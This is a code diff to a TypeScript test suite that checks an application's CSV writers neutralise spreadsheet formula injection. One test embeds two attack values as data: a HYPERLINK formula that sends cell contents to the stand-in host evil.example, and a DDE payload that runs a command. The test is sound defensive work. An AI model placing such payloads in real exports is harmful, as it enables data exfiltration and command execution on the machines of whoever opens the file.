@@ -4,12 +4,11 @@ import { readdirSync, readFileSync, statSync } from "node:fs";
 import path from "node:path";
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
-import { strFromU8, unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
 import { chartCsv } from "@/components/charts/chart-csv";
 import { documentCsv, type PublishedDocument } from "@/lib/publishing/open-data";
 import { cellValue, isFormulaLike } from "@/tests/support/csv-formulas";
-import { caseFileZip, type CaseFile } from "./case-file";
+import { caseFileTexts, type CaseFile } from "./case-file";
 import { caseTables } from "./case-tables";
 import { toCsv } from "./csv";
 
@@ -44,11 +43,11 @@ const WRITERS: [string, (value: unknown) => string[], number][] = [
   ["toCsv (a list of every kind of value)", (value) => [toCsv(["a", "b"], [{ a: value, b: [value, value] }])], 300],
   ["open data (/cases/<slug>.csv)", (value) => [documentCsv(documentOf(value))], 300],
   [
-    "case-file export (every CSV in the zip)",
+    "case-file export (every CSV the zip writes)",
     (value) =>
-      Object.entries(unzipSync(caseFileZip(caseFileOf(value))))
+      caseFileTexts(caseFileOf(value))
         .filter(([name]) => name.endsWith(".csv"))
-        .map(([, bytes]) => strFromU8(bytes)),
+        .map(([, text]) => text),
     60,
   ],
   ["chart download (ChartFrame)", (value) => [chartCsv([{ key: "a" }, { key: "b" }], [{ a: value, b: [value] }])], 300],
@@ -70,7 +69,7 @@ describe("every CSV writer", () => {
   it("the reported payloads in a finding's legal articles and evidence references reach findings.csv defused", () => {
     const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"];
     const file = caseFileOf("x").map((t) => (t.file === "findings" ? { ...t, rows: [{ ...recordOf("x"), legalArticles: payloads, evidenceRefs: payloads }] } : t));
-    const [header, row] = parse(strFromU8(unzipSync(caseFileZip(file))["findings.csv"]!)) as string[][];
+    const [header, row] = parse(new Map(caseFileTexts(file)).get("findings.csv")!) as string[][];
     for (const column of ["legalArticles", "evidenceRefs"]) {
       expect(row?.[header!.indexOf(column)]).toBe(`'${payloads[0]}\n'${payloads[1]}`);
     }
@@ -78,9 +77,10 @@ describe("every CSV writer", () => {
 });
 
 // A new CSV download must use these writers: every source file that sends or builds text/csv
-// imports one of them, or only reads CSV (uploads).
+// imports one of them, or only reads CSV (uploads), or names the type of an uploaded evidence
+// file, whose bytes go back out exactly as received (custody forbids changing them).
 const WRITER_MODULES = ["@/lib/export/csv", "@/lib/publishing/open-data", "@/lib/export/case-file", "./chart-csv", "@/components/charts/chart-csv"];
-const CSV_READERS = new Set(["components/series/series-import.tsx", "app/api/cases/[slug]/series/import/route.ts"]);
+const CSV_READERS = new Set(["components/series/series-import.tsx", "app/api/cases/[slug]/series/import/route.ts", "lib/evidence/content-type-policy.ts", "lib/evidence/serving-headers.ts"]);
 
 function sourceFiles(dir: string): string[] {
   return readdirSync(dir).flatMap((name) => {
